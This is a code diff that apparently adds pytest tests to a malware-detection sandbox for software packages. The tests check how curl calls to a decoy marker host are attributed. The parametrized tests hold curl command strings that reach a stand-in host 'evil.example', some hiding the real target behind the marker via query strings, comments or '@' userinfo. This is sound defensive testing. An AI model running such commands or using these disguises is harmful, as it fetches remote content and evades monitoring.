@@ -166,6 +166,39 @@ def test_executed_decoy_alone_is_suspicious_and_with_a_detached_process_maliciou
     assert of("staged_payload", together).proof
 
 
+def test_what_our_own_decoy_does_is_not_the_packages_doing() -> None:
+    executed = replace(mark("remote_code_execution"), evidence={"marker": "c0.abcdef.example"})
+    call = alert(
+        output_fields={"proc.cmdline": "curl http://c0.abcdef.example/", "proc.name": "curl"},
+        tags=("kind:download", "suspicious"),
+    )
+    network = NetworkLog(
+        dns=(DnsRecord(T0, "c0.abcdef.example", "A", "198.18.1.9", 5, samples.BLAME),),
+        requests=(request("http://c0.abcdef.example/"),),
+        marks=(executed,),
+    )
+    reached = alert(output_fields={"proc.cmdline": "node x", "fd.rip": "198.18.1.9"})
+    assert kinds_of(judge(Observation(alerts=(call, reached)), network)) == {"remote_code_execution"}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl https://evil.example/?x=http://c0.abcdef.example/",
+        "curl http://c0.abcdef.example/ https://evil.example/",
+        "curl evil.example # c0.abcdef.example",
+        "curl http://c0.abcdef.example@evil.example/",
+    ],
+)
+def test_naming_the_marker_hides_nothing(command: str) -> None:
+    executed = replace(mark("remote_code_execution"), evidence={"marker": "c0.abcdef.example"})
+    call = alert(
+        output_fields={"proc.cmdline": command, "proc.name": "curl"}, tags=("kind:download", "suspicious")
+    )
+    found = judge(Observation(alerts=(call,)), NetworkLog(marks=(executed,)))
+    assert kinds_of(found) == {"remote_code_execution", "download"}
+
+
 def test_unknown_mark_is_still_a_finding() -> None:
     assert kinds_of(judge(Observation(), NetworkLog(marks=(mark("something_new"),)))) == {"other"}
 
